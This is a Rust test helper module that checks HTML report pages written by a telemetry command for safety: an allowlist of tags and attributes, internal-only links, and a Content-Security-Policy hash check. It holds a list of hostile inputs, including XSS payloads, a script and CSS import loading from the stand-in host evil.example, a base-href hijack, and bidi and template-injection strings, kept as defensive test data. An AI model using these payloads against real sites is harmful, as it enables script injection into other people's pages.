//! What holds for every page that the command writes: nothing that it was given does anything.

#![allow(dead_code, reason = "each test file uses its part of it")]

use base64::Engine;
use crawl4ai_telemetry::printable;

/// The text that a browser shows for HTML between two tags.
pub(crate) fn unescaped(html: &str) -> String {
    let named = [("&#60;", "<"), ("&#62;", ">"), ("&#34;", "\""), ("&#39;", "'"), ("&#38;", "&")];
    named.iter().fold(html.to_owned(), |text, (escaped, sign)| text.replace(escaped, sign))
}

pub(crate) fn between<'a>(html: &'a str, before: &str, after: &str) -> Option<&'a str> {
    html.split_once(before)?.1.split_once(after).map(|(inside, _)| inside)
}

/// The tags of the page without their brackets. The style contains none.
fn tags(html: &str) -> Vec<&str> {
    let style = between(html, "<style>", "</style>").unwrap();
    assert!(!style.contains('<') && !style.contains("url(") && !style.contains("@import"), "{style}");
    html.split('<').skip(1).map(|rest| rest.split('>').next().unwrap()).collect()
}

/// Checks that nothing on the page loads, runs, is sent, or links to another page, whatever the reports hold.
#[track_caller]
pub(crate) fn is_harmless(html: &str) {
    const KNOWN: [&str; 43] = [
        "!doctype",
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "a",
        "header",
        "p",
        "bdi",
        "h1",
        "span",
        "ul",
        "li",
        "b",
        "time",
        "div",
        "nav",
        "main",
        "section",
        "h2",
        "h3",
        "code",
        "strong",
        "details",
        "summary",
        "ol",
        "dl",
        "dt",
        "dd",
        "pre",
        "figure",
        "figcaption",
        "svg",
        "rect",
        "table",
        "caption",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
    ];
    const ATTRIBUTES: [&str; 25] = [
        "lang",
        "charset",
        "http-equiv",
        "content",
        "name",
        "class",
        "href",
        "id",
        "aria-labelledby",
        "aria-label",
        "aria-hidden",
        "datetime",
        "tabindex",
        "role",
        "viewBox",
        "preserveAspectRatio",
        "x",
        "y",
        "width",
        "height",
        "scope",
        "html",
        "=",
        "",
        "/",
    ];
    for tag in tags(html) {
        let name = tag.trim_start_matches('/').split_whitespace().next().unwrap();
        assert!(KNOWN.contains(&name.to_ascii_lowercase().as_str()), "<{tag}>");
        // Names of attributes are outside of quotes.
        let outside: String = tag[name.len()..].split('"').step_by(2).collect::<Vec<_>>().join(" ");
        for attribute in outside
            .split(|c: char| c.is_whitespace() || c == '=')
            .filter(|a| !tag.starts_with('/') && !a.is_empty())
        {
            assert!(ATTRIBUTES.contains(&attribute), "{attribute:?} in <{tag}>");
        }
        if let Some(target) = between(tag, "href=\"", "\"") {
            assert!(target.starts_with('#'), "<{tag}>");
            assert!(html.contains(&format!("id=\"{}\"", &target[1..])), "{target} leads nowhere");
        }
        assert!(!tag.contains("://"), "<{tag}>");
    }
    assert_eq!(printable::text(html), html, "nothing in it turns text around or is not seen");
}

/// Texts that an attacker could have written into a report, into its entry in the sent log, or into the settings.
pub(crate) const HOSTILE: [&str; 12] = [
    "<script>alert(1)</script>",
    "</code></pre></details><script src=//evil.example/x.js></script>",
    "\"><img src=x onerror=alert(1)>",
    "' autofocus onfocus='alert(1)",
    "</style><style>@import 'https://evil.example'</style>",
    "<!-- </main> --><base href=https://evil.example/>",
    "&lt;script&gt; &#60;script&#62;",
    "\u{202e}lmth.exe\u{202c}\u{2066}\u{2069}\u{200f}",
    "\u{0}\u{1b}[2J\u{9b}\u{feff}\u{200b}\u{2028}",
    "{{ name }} {% include \"x\" %} {# #}",
    "`weather telemetry enable`",
    "]]><![CDATA[<svg onload=alert(1)>",
];

/// Checks that the policy of the page allows its own style and nothing else.
#[track_caller]
pub(crate) fn allows_only_its_style(html: &str) {
    let style = between(html, "<style>", "</style>").unwrap();
    let hash = ring::digest::digest(&ring::digest::SHA256, style.as_bytes());
    let hash = base64::engine::general_purpose::STANDARD.encode(hash);
    let policy = unescaped(between(html, "http-equiv=\"Content-Security-Policy\" content=\"", "\"").unwrap());
    let expected =
        format!("default-src 'none'; style-src 'sha256-{hash}'; base-uri 'none'; form-action 'none'");
    assert_eq!(policy, expected, "STYLE_HASH beside the template");
    // The policy only applies to what follows it.
    let before = html.split_once("http-equiv").unwrap().0;
    assert!(!before.contains("<style") && before.len() < 100, "{before}");
}
